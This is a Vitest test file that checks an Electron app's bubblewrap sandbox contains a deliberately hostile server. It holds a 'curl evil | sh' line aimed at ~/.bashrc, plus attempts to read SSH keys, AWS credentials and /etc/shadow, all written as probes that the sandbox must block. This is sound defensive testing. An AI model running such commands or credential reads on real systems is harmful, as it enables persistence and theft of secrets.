import { readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultSandboxProfile } from '../../../shared/domain';
import { createSandboxLauncher, SECCOMP_FD_SCRIPT, type AirlockSandboxLauncher } from '../../../electron/core/sandbox/sandbox-launcher';
import { call, canaryListener, connect, ESCAPE_SERVER, makeWorld } from './sandbox-harness';

// Hostile behaviour 8 (TESTING.md): a server that tries every way out, run in
// the real sandbox with the default profile, checked from outside.
describe('a hostile server under the default profile', () => {
  let world: Awaited<ReturnType<typeof makeWorld>>;
  let launcher: AirlockSandboxLauncher;
  let canary: Awaited<ReturnType<typeof canaryListener>>;
  let server: Awaited<ReturnType<typeof connect>>;
  let plan: Awaited<ReturnType<AirlockSandboxLauncher['plan']>>;

  beforeAll(async () => {
    world = await makeWorld();
    canary = await canaryListener();
    process.env.AIRLOCK_TEST_CANARY_SECRET = 'canary-must-not-leak';
    launcher = createSandboxLauncher({ homeDir: world.home, runtimeDir: world.runtimeDir });
    plan = await launcher.plan({ command: 'node', args: [ESCAPE_SERVER], env: { GRANTED_PLAIN: 'yes' } }, defaultSandboxProfile(), world.context());
    server = await connect(plan);
  });

  afterAll(async () => {
    delete process.env.AIRLOCK_TEST_CANARY_SECRET;
    await server?.close();
    await launcher?.close();
    await canary?.close();
    await rm(world.base, { recursive: true, force: true });
  });

  it('runs inside bubblewrap, reached through one fixed script (it opens the privilege filter), with no shell in front of the server', () => {
    expect(plan.sandboxed).toBe(true);
    expect(plan.command).toBe('/bin/sh');
    expect(plan.args.slice(0, 3)).toEqual(['-c', SECCOMP_FD_SCRIPT, 'airlock-sandbox']);
    expect(plan.args[4]).toMatch(/\/bwrap$/);
    expect(plan.args).toContain('--unshare-net');
    expect(plan.args.slice(plan.args.indexOf('--'))).not.toContain('-c');
  });

  it('cannot read ~/.ssh, ~/.aws, Airlock data or anything else in home, but can read ordinary files elsewhere', async () => {
    expect(await call(server.client, 'read_file', { path: join(world.home, '.ssh', 'id_rsa') })).toMatchObject({ ok: false });
    expect(await call(server.client, 'read_file', { path: join(world.home, '.aws', 'credentials') })).toMatchObject({ ok: false });
    expect(await call(server.client, 'read_file', { path: join(world.airlockDataDir, 'store.json') })).toMatchObject({ ok: false });
    expect(await call(server.client, 'read_file', { path: join(world.home, 'notes.txt') })).toMatchObject({ ok: false });
    await writeFile(join(world.base, 'outside-home.txt'), 'ordinary file\n');
    expect(await call(server.client, 'read_file', { path: join(world.base, 'outside-home.txt') })).toMatchObject({ ok: true, text: 'ordinary file\n' });
    // Meaningful where the tests run as root: the sandbox keeps the uid, so only the mask stops this.
    expect(await call(server.client, 'read_file', { path: '/etc/shadow' })).not.toMatchObject({ text: expect.stringContaining('root:') });
  });

  it('cannot write ~/.bashrc or Airlock data; the files are unchanged', async () => {
    const bashrc = await call(server.client, 'write_file', { path: join(world.home, '.bashrc'), text: 'curl evil | sh\n' });
    expect(bashrc.ok).toBe(false);
    expect(['EROFS', 'EACCES', 'EPERM']).toContain(bashrc.code);
    const store = await call(server.client, 'write_file', { path: join(world.airlockDataDir, 'store.json'), text: '{}' });
    expect(store).toMatchObject({ ok: false, code: 'EROFS' });
    expect((await call(server.client, 'write_file', { path: join(world.home, 'new-file'), text: 'x' })).ok).toBe(false);
    expect(await readFile(join(world.home, '.bashrc'), 'utf8')).toBe('# original bashrc\n');
    expect(await readFile(join(world.airlockDataDir, 'store.json'), 'utf8')).toBe('{"secret":"airlock store"}\n');
    await expect(stat(join(world.home, 'new-file'))).rejects.toThrow();
  });

  it('can write its own temp home, which is not the real home', async () => {
    const env = await call(server.client, 'read_env', { name: 'HOME' });
    expect(env.value).not.toBe(world.home);
    expect((await call(server.client, 'write_file', { path: join(env.value, 'scratch.txt'), text: 'ok' })).ok).toBe(true);
  });

  it('reaches nothing on the network, by IP or by name; the canary saw no connection', async () => {
    expect(await call(server.client, 'connect_tcp', { host: '127.0.0.1', port: canary.port })).toMatchObject({ ok: false });
    expect(await call(server.client, 'connect_tcp', { host: 'localhost', port: canary.port })).toMatchObject({ ok: false });
    expect(await call(server.client, 'connect_tcp', { host: 'example.com', port: 80 })).toMatchObject({ ok: false });
    expect(canary.connections()).toBe(0);
  });

  it("sees none of the host's environment, only the scrubbed set and its grants", async () => {
    const env = await call(server.client, 'read_env', { name: 'AIRLOCK_TEST_CANARY_SECRET' });
    expect(env.value).toBeNull();
    expect(env.names).toContain('GRANTED_PLAIN');
    expect(env.names).not.toContain('HTTP_PROXY');
    for (const name of env.names) expect(Object.keys(plan.env).concat(['LOGNAME', 'SHELL', 'TERM', 'USER', 'PWD'])).toContain(name);
  });

  it('dispose removes the temp folder', async () => {
    const home = (await call(server.client, 'read_env', { name: 'HOME' })).value as string;
    await server.close();
    await expect(stat(home)).rejects.toThrow();
  });
});
